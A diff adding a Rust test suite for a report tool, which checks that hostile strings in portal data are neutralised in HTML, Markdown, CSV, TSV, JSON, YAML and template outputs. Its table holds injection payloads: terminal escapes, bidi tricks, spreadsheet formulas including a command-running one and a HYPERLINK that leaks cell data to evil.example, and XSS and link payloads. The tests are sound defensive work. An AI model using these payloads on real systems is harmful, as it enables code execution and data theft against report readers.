@@ -1,0 +1,271 @@
+//! One table of texts made to hurt whoever reads a report, run through every format and every shipped template.
+
+use std::fs;
+use std::path::Path;
+
+use lmq::spec::{Content, Format, Subject};
+use lmq::text;
+use serde_json::{Value, json};
+
+use crate::support::{Project, Reply, Stub, page, row, slice};
+
+/// What they do where they are not kept from it.
+const TEXTS: &[(&str, &str)] = &[
+    ("control characters", "a\u{1}b\u{7}c\u{8}d\u{b}e\u{c}f\u{7f}g"),
+    ("nul", "before\u{0}after"),
+    (
+        "escape sequences",
+        "\u{1b}[31mred\u{1b}[2J\u{1b}]0;title\u{7}\u{1b}]8;;http://evil.example\u{1b}\\link",
+    ),
+    ("control characters of eight bits", "\u{9b}31m\u{90}q\u{9d}0;x\u{9c}\u{85}next"),
+    (
+        "bidi overrides",
+        "invoice\u{202e}gpj.exe\u{202c} \u{2066}\u{2067}\u{2068}\u{2069}\u{202a}\u{202b}\u{202d}",
+    ),
+    ("zero width", "pay\u{200b}pal\u{200d}\u{feff}\u{2060}.example\u{200e}\u{200f}"),
+    ("line ends of unicode", "one\u{2028}two\u{2029}three"),
+    ("line ends", "one\ntwo\r\nthree\rfour\n\n"),
+    ("what XML has no place for", "\u{fffe}\u{ffff}]]>"),
+    ("formula", "=cmd|' /C calc'!A0"),
+    ("formula with quotes", "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")"),
+    ("plus", "+1+cmd"),
+    ("minus", "-2+3+cmd"),
+    ("at", "@SUM(1+1)"),
+    ("tab before a formula", "\t=1+1"),
+    ("carriage return before a formula", "\r=1+1"),
+    ("line feed before a formula", "\n=1+1"),
+    ("blank before a formula", " =1+1"),
+    ("full width formula", "＝1+1"),
+    ("cell of its own", "a\",\"=1+1\",\"b;c\td"),
+    ("pipes", "a | b || c \\| d \\\\|"),
+    ("table row", "x |\n| --- |\n| y"),
+    ("link", "[click](javascript:alert(1)) ![pixel](https://evil.example/p.png) <https://evil.example>"),
+    ("reference", "[x]: https://evil.example\n[x]"),
+    ("plain addresses", "https://evil.example www.evil.example jane@evil.example @team #1"),
+    ("code", "`code` ```\n~~~~\n    indented\n```sh"),
+    ("heading", "# head\n===\n---"),
+    ("list", "- item\n1. item\n> quote"),
+    ("script", "<script>alert(1)</script>"),
+    ("image", "<img src=x onerror=\"alert(1)\">"),
+    ("closing tags", "</td></tr></table></title></style></svg></figure><script>alert(1)</script>"),
+    ("attribute", "\" onmouseover=\"alert(1)"),
+    ("attribute of one quote", "' autofocus onfocus='alert(1)"),
+    ("attribute of none", "x onclick=alert(1) `y`"),
+    ("comment", "--><!-- x --!> <![CDATA[ y ]]> <?php z ?>"),
+    ("entities", "&lt;script&gt; &#60;b&#62; &amp;"),
+    ("template", "{{run.verdict}} {{{note}}} {{#each records}} {{> verdict.html}} ${var} <%= x %>"),
+    ("workflow command", "::error file=x::y\n::set-output name=a::b\n##[error]z"),
+    ("yaml", "- a: {b: [c]} # d\n--- !!str &x *x"),
+    ("backslashes", "\\n \\u001b \\\\ end\\"),
+    ("percent", "%0A%0D%1b[31m %s %n"),
+    ("combining", "Z\u{335}\u{321}\u{322}\u{327}\u{328}a\u{300}\u{301}\u{302}\u{303}\u{304}lgo"),
+];
+
+/// All of them, and one that is long.
+fn texts() -> Vec<String> {
+    let long = format!("{}<b>|=", "long ".repeat(2_000));
+    TEXTS.iter().map(|(_, text)| (*text).to_owned()).chain([long]).collect()
+}
+
+/// A portal whose tokens have a text wherever they have any.
+fn stub(texts: &[String]) -> Stub {
+    let rows: Vec<Value> = (1..)
+        .zip(texts)
+        .map(|(id, text)| {
+            let mut row = row(id);
+            for field in ["note", "adminName", "createdBy", "lastAuthIp"] {
+                row[field] = json!(text);
+            }
+            row["roles"] = json!([text, "second"]);
+            row
+        })
+        .collect();
+    let total = rows.len();
+    Stub::start(move |seen| page(slice(&rows, seen), total))
+}
+
+/// What is made of the texts, by a flag of `run` and its value; and of as many texts without malice.
+fn made(flag: &str, form: &str) -> (String, String) {
+    let of = |texts: &[String]| {
+        let stub = stub(texts);
+        let project =
+            Project::new().query("name: hostile\nfields: [id, note, adminName, roles]\n").stub(&stub);
+        project.run(&[flag, form, "q.yaml"]).exits(0).stdout
+    };
+    let texts = texts();
+    (of(&texts), of(&vec!["plain".to_owned(); texts.len()]))
+}
+
+/// The formats that show rows as text.
+fn formats() -> impl Iterator<Item = Format> {
+    let shown =
+        |format: &Format| format.about().content == Content::Text && format.about().subject == Subject::Rows;
+    Format::ALL.iter().copied().filter(shown)
+}
+
+/// Every shipped template that is a report of its own.
+fn templates() -> Vec<String> {
+    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("templates");
+    let files = fs::read_dir(folder).expect("the templates lie there");
+    let names = files.map(|file| file.expect("readable").file_name().to_string_lossy().into_owned());
+    let mut names: Vec<String> = names.filter(|name| !name.starts_with("verdict.")).collect();
+    names.sort();
+    assert!(names.len() >= 3, "the shipped templates are found");
+    names
+}
+
+/// Every text report: its form, the kind of markup that it is, and what is made of hostile and of plain texts.
+fn reports() -> Vec<(String, &'static str, String, String)> {
+    let formats = formats().map(|format| {
+        let markup = match format {
+            Format::Html => "html",
+            Format::Markdown => "md",
+            _ => "",
+        };
+        ("-f", format.name().to_owned(), markup)
+    });
+    let templates = templates().into_iter().map(|name| {
+        let markup = ["html", "md"].into_iter().find(|kind| name.ends_with(&format!(".{kind}.hbs")));
+        ("-t", name, markup.unwrap_or_default())
+    });
+    let made = |(flag, form, markup): (&str, String, &'static str)| {
+        let (hostile, plain) = made(flag, &form);
+        (form, markup, hostile, plain)
+    };
+    formats.chain(templates).map(made).collect()
+}
+
+/// Characters that act instead of being shown. Written out here once more, so that a gap in the program's list is found.
+fn acts(c: char) -> bool {
+    matches!(c, '\0'..='\u{8}' | '\u{b}'..='\u{1f}' | '\u{7f}'..='\u{9f}')
+        || matches!(c, '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+}
+
+#[test]
+fn nothing_acts_on_who_reads_a_report() {
+    for (form, markup, hostile, plain) in reports() {
+        // The lines of CSV end as RFC 4180 has it.
+        let found = hostile.replace("\r\n", "\n").chars().find(|c| acts(*c));
+        assert_eq!(found, None, "{form}");
+        match markup {
+            "html" => html(&form, &hostile, &plain),
+            "md" => markdown(&form, &hostile, &plain),
+            _ => {}
+        }
+    }
+}
+
+/// The page has the elements and attributes it has without malice.
+fn html(form: &str, hostile: &str, plain: &str) {
+    for wrong in
+        ["<script", "<img", "<b>", "<!--", "<?", "</style><", " onmouseover=\"", " onfocus='", "\" on"]
+    {
+        let count = |text: &str| text.matches(wrong).count();
+        assert_eq!(count(hostile), count(plain), "{form}: {wrong}");
+    }
+    // The charts have a bar for each owner; the table has the same elements, however its cells read.
+    let table = |text: &str| {
+        let table = text.split("id=\"tokens\"").last().expect("there is a table");
+        (table.matches('<').count(), table.matches('>').count(), table.matches("=\"").count())
+    };
+    assert_eq!(table(hostile), table(plain), "{form}");
+    let quotes = |tag: &str| tag.matches('"').count().is_multiple_of(2);
+    let body = hostile.split("<body>").last().expect("there is a body");
+    let tags: Vec<&str> = body.split('<').skip(1).filter_map(|rest| rest.split('>').next()).collect();
+    assert!(tags.iter().all(|tag| quotes(tag) && !tag.contains('\'')), "{form}");
+}
+
+/// Every row keeps its cells, HTML is text and nothing becomes a link.
+fn markdown(form: &str, hostile: &str, plain: &str) {
+    let rows = |text: &str| {
+        let rows = text.lines().filter(|line| line.starts_with('|'));
+        rows.map(|row| row.replace("\\\\", "").replace("\\|", "").matches('|').count()).collect::<Vec<_>>()
+    };
+    assert_eq!(rows(hostile), rows(plain), "{form}: cells");
+    assert_eq!(hostile.lines().count(), plain.lines().count(), "{form}: lines");
+    let text = hostile.replace("<br>", "").replace("\\\\", "");
+    assert!(!text.contains('<'), "{form}: HTML");
+    for link in ["](", "]:", "https://", "www.evil", "@evil", "@team"] {
+        let open = text.replace(&format!("\\{link}"), "");
+        assert!(!open.contains(link), "{form}: {link}");
+    }
+    assert!(!text.replace("\\`", "").contains('`'), "{form}: code");
+}
+
+#[test]
+fn programs_read_back_what_the_portal_sent() {
+    let texts = texts();
+    let of = |document: &Value| -> Vec<String> {
+        let records = document.as_array().expect("records").iter();
+        records.map(|record| record["note"].as_str().expect("a note").to_owned()).collect()
+    };
+    let json: Value = serde_json::from_str(&made("-f", "json").0).expect("JSON");
+    assert_eq!(of(&json["records"]), texts);
+    let yaml: Value = serde_yaml::from_str(&made("-f", "yaml").0).expect("YAML");
+    assert_eq!(of(&yaml["records"]), texts);
+    let lines = made("-f", "ndjson").0;
+    let lines: Vec<Value> = lines.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect();
+    assert_eq!(of(&json!(lines)), texts);
+}
+
+#[test]
+fn spreadsheets_read_back_the_texts_and_no_formula() {
+    let is_formula = |cell: &str| cell.trim_start().starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']);
+    let csv = made("-f", "csv").0;
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(|row| row.expect("a row")).collect();
+    assert_eq!(rows.len(), texts().len());
+    for (row, text) in rows.iter().zip(texts()) {
+        assert_eq!(row.len(), 4, "{text:?}");
+        for cell in [&row[1], &row[2]] {
+            assert!(!is_formula(cell) && !cell.starts_with(['\t', '\r', '\n']), "{cell:?}");
+            assert_eq!(cell.strip_prefix('\'').unwrap_or(cell), text::inert(&text).trim_start_matches('\''));
+        }
+    }
+    for line in made("-f", "tsv").0.lines() {
+        let cells: Vec<&str> = line.split('\t').collect();
+        assert_eq!(cells.len(), 4, "{line:?}");
+        assert!(cells.iter().all(|cell| !is_formula(cell)), "{line:?}");
+    }
+}
+
+#[test]
+fn half_a_character_is_no_row_and_no_panic() {
+    for escape in ["\\ud800", "\\udfff\\ud800", "\\ud83d"] {
+        let body = format!("{{\"total\": 1, \"items\": [{{\"id\": 1, \"note\": \"a{escape}b\"}}]}}");
+        let stub = Stub::saying(Reply::text(200, "application/json", body));
+        for format in formats() {
+            let ran = Project::new().query("").stub(&stub).run(&["-f", format.name(), "q.yaml"]);
+            assert!(matches!(ran.code, 5 | 6), "{escape}: {} {}", ran.code, ran.stderr);
+            assert!(!ran.both().contains(acts), "{escape}");
+        }
+    }
+}
+
+#[test]
+fn names_of_a_query_are_texts_as_well() {
+    for (what, text) in TEXTS.iter().filter(|(_, text)| !text.contains(['\0', '\u{fffe}'])) {
+        let quoted = serde_json::to_string(text).expect("a string is JSON").replace("${", "$${");
+        let query = format!(
+            "description: {quoted}\ntags: [{quoted}]\ncolumns: [id, {{title: {quoted}, path: $.note}}]\n"
+        );
+        let stub = stub(&["plain".to_owned()]);
+        let project = Project::new().query(&query).stub(&stub);
+        for (flag, form) in
+            [("-f", "html"), ("-f", "markdown"), ("-f", "table"), ("-f", "csv"), ("-t", "tokens.md.hbs")]
+        {
+            let ran = project.run(&[flag, form, "q.yaml"]);
+            // A heading that no file can hold is refused; nothing is made of it then.
+            assert!(matches!(ran.code, 0 | 2), "{what} as {form}: {}", ran.stderr);
+            let found = ran.both().replace("\r\n", "\n").chars().find(|c| acts(*c));
+            assert_eq!(found, None, "{what} as {form}");
+            let body = ran.stdout.split("</style>").last().unwrap_or_default();
+            if form == "html" {
+                assert!(
+                    !body.contains("<script") && !body.contains("<img") && !body.contains("<!--"),
+                    "{what}: {body}"
+                );
+            }
+        }
+    }
+}
